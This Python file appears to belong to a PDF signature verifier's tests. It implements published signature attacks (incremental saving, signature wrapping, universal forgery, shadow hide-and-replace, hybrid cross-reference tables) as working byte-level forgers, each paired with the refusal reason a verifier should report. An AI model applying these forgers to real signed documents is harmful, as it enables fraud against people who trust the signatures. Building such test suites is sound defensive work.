"""The published attacks on PDF signatures, each as whoever found it describes it.

Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): incremental saving, wrapping, universal
forgery. Rohlmann et al., "Breaking the Specification" (S&P 2021): certification attacks. Mainka et
al., "Shadow Attacks" (NDSS 2021): hide, replace, hide-and-replace. Here is what works on the bytes
of a signed file; what a later revision does through a writer is in `attacks.py`.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

RANGE = re.compile(rb"/ByteRange \[ ?(\d+) (\d+) (\d+) (\d+) ?\]")
Forger = Callable[[bytes], bytes]


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done to a signed file, and the reason that its refusal names."""

    forge: Forger
    reason: str


def update(
    pdf: bytes,
    objects: dict[int, bytes],
    *,
    moved: dict[int, int] | None = None,
    trailer: bytes = b"",
) -> bytes:
    """A revision of these objects, by hand; `moved` only points a number to other bytes."""
    body, places = pdf.rstrip(b"\r\n") + b"\n", dict(moved or {})
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % row for row in sorted(places.items()))
    size = max([*places, *map(int, re.findall(rb"/Size (\d+)", pdf))]) + 1
    old = re.findall(rb"/(?:Root|Info) \d+ 0 R", pdf[pdf.rfind(b"trailer") :])
    kept = b" ".join(one for one in old if one.split()[0] not in trailer)
    head = b"trailer\n<< %s %s /Size %d /Prev %d >>" % (kept, trailer, size, start_of_xref(pdf))
    return body + b"xref\n" + rows + head + b"\nstartxref\n%d\n%%%%EOF\n" % len(body)


def start_of_xref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def newest(pdf: bytes, holding: bytes) -> tuple[int, bytes, int]:
    """Number, content and place of the last object that holds these bytes."""
    found = None
    for one in re.finditer(rb"(?<=\n)(\d+) 0 obj\n?(.*?)\s*endobj", pdf, re.DOTALL):
        found = one if holding in one[2] and b"stream" not in one[2] else found
    assert found is not None, holding
    return int(found[1]), found[2], found.start()


def last_range(pdf: bytes) -> list[int]:
    return [int(number) for number in RANGE.findall(pdf)[-1]]


def evil_page(pdf: bytes) -> dict[int, bytes]:
    """The first page with other content, as objects of a later revision."""
    number, content, _ = newest(pdf, b"/MediaBox")
    free = max(map(int, re.findall(rb"\n(\d+) 0 obj", pdf))) + 40
    shown = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % free, content)
    return {number: shown, free: b"<< /Length 3 >>\nstream\nq Q\nendstream"}


# Incremental saving


def saved_plainly(pdf: bytes) -> bytes:
    return update(pdf, evil_page(pdf))


def saved_without_table(pdf: bytes) -> bytes:
    """A body and a trailer; whoever repairs the file reads the new body."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % row for row in evil_page(pdf).items())
    root = re.findall(rb"/Root \d+ 0 R", pdf)[-1]
    end = b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (root, start_of_xref(pdf))
    return pdf + body + end


def saved_body_alone(pdf: bytes) -> bytes:
    return pdf + b"".join(b"%d 0 obj\n%s\nendobj\n" % row for row in evil_page(pdf).items())


def another_trailer(pdf: bytes) -> bytes:
    """No new body: a second catalogue, signed long ago, becomes the first."""
    number, content, _ = newest(pdf, b"/Catalog")
    other = number + 90
    return update(pdf, {other: content}, trailer=b"/Root %d 0 R" % other)


def signature_copied(pdf: bytes) -> bytes:
    """The update brings a copy of the signature along, so that the last revision looks signed."""
    signature, content, _ = newest(pdf, b"/ByteRange")
    return update(pdf, {**evil_page(pdf), signature: content})


def pointed_elsewhere(pdf: bytes) -> bytes:
    """Hide-and-replace: a table alone, which points a page to what was signed as another."""
    number, _, _ = newest(pdf, b"/MediaBox")
    first = re.search(rb"\n(%d) 0 obj" % number, pdf)
    assert first is not None
    return update(pdf, {}, moved={number: first.start() + 1})


# Wrapping


def wrapped(pdf: bytes) -> bytes:
    """The second signed part moves down and the range with it; in the gap stands what is shown.

    The range stands behind the contents, so the forger writes the dictionary's end anew; what
    was signed is all there, byte for byte, and its digest holds.
    """
    _, before, start, after = last_range(pdf)
    table = start_of_xref(pdf)
    new_table = pdf[table : pdf.rindex(b"startxref")]
    moved = table + len(new_table)
    signature = 4 + int(pdf[before + 5 : before + 9], 16)
    hexes = pdf[before : before + 1 + 2 * signature]
    told = pdf[start : pdf.index(b">>", start)]
    gap = hexes + b">" + RANGE.sub(b"/ByteRange [0 %d %d %d]" % (before, moved, after), told)
    gap += b">>\nendobj\n"
    gap += b"7 0 obj\n<< /Type /Page >>\nendobj\n"
    return pdf[:before] + gap.ljust(start - before) + pdf[start:table] + new_table + pdf[start:]


def range_shrunk(pdf: bytes) -> bytes:
    """The range ends before the end; what follows belongs to nobody."""
    _, before, start, after = last_range(pdf)
    old = b"%d %d %d" % (before, start, after)
    return pdf.replace(old, b"%d %d %d" % (before, start, 10 ** (len(str(after)) - 1)))


# Universal forgery: the signature is there, and says nothing


def without(key: bytes) -> Forger:
    def forge(pdf: bytes) -> bytes:
        at = pdf.rfind(key)
        return pdf[:at] + b"/Zz" + pdf[at + 3 :]

    return forge


def contents_as(value: bytes) -> Forger:
    def forge(pdf: bytes) -> bytes:
        _, before, start, _ = last_range(pdf)
        return pdf[:before] + value.ljust(start - before) + pdf[start:]

    return forge


def range_as(value: bytes) -> Forger:
    def forge(pdf: bytes) -> bytes:
        found = [*RANGE.finditer(pdf)][-1]
        said = (b"/ByteRange " + value).ljust(found.end() - found.start())
        return pdf[: found.start()] + said + pdf[found.end() :]

    return forge


# Two readers, two files


def header_moved(pdf: bytes) -> bytes:
    return b"GIF89a;\n" + pdf


def another_file_in_front(pdf: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n" + pdf


def hybrid(pdf: bytes) -> bytes:
    """The table for old readers, and beside it a stream of other places for new ones."""
    number, content = [*evil_page(pdf).items()][0]
    table = b"\x01" + len(pdf).to_bytes(3, "big") + b"\x00"
    head = b"<< /Type /XRef /Size %d /W [1 3 1] /Index [%d 1] /Length 5 >>" % (number + 1, number)
    body = b"%d 0 obj\n%s\nendobj\n" % (number, content)
    stream = b"%s\nstream\n%s\nendstream" % (head, table)
    at = len(pdf) + len(body)
    both = pdf + body + b"400 0 obj\n%s\nendobj\n" % stream
    return update(both, {}, moved={400: at}, trailer=b"/XRefStm %d" % at)


def key_doubled(pdf: bytes) -> bytes:
    """A page with two contents: some readers take the first, some the last."""
    number, content, _ = newest(pdf, b"/MediaBox")
    return update(pdf, {number: content[:-2] + b" /Contents 1 0 R >>"})


# fmt: off
PUBLISHED: dict[str, Attack] = {
    "incremental saving: a whole revision":      Attack(saved_plainly, "changed_after:other"),
    "incremental saving: no table":              Attack(saved_without_table, "unlisted_bytes"),
    "incremental saving: body alone":            Attack(saved_body_alone, "unlisted_bytes"),
    "incremental saving: another trailer":       Attack(another_trailer, "unsigned_revision"),
    "incremental saving: the signature copied":  Attack(signature_copied, "stray_signature"),
    "shadow, hide and replace: a table alone":   Attack(pointed_elsewhere, "changed_after:other"),
    "wrapping: the second part moved":           Attack(wrapped, "byte_range"),
    "wrapping: the range ends early":            Attack(range_shrunk, "byte_range"),
    "universal forgery: no contents":            Attack(without(b"/Contents"), "broken"),
    "universal forgery: no range":               Attack(without(b"/ByteRange"), "broken"),
    "universal forgery: contents null":          Attack(contents_as(b"null"), "broken"),
    "universal forgery: contents empty":         Attack(contents_as(b"<>"), "broken"),
    "universal forgery: contents zero":          Attack(contents_as(b"<00>"), "broken"),
    "universal forgery: range null":             Attack(range_as(b"null"), "stray_signature"),
    "universal forgery: range empty":            Attack(range_as(b"[]"), "stray_signature"),
    "universal forgery: range of zeros":         Attack(range_as(b"[0 0 0 0]"), "byte_range"),
    "universal forgery: range below zero":       Attack(range_as(b"[0 -1 -1 -1]"), "byte_range"),
    "universal forgery: range of two":           Attack(range_as(b"[0 99]"), "byte_range"),
    "bytes before the header":                   Attack(header_moved, "leading_bytes"),
    "another file in front":                     Attack(another_file_in_front, "broken"),
    "hybrid tables":                             Attack(hybrid, "hybrid_xref"),
    "a key doubled":                             Attack(key_doubled, "duplicate_key"),
}
# fmt: on
"""Each on a paper of ours and on one from elsewhere: the reason is the same."""
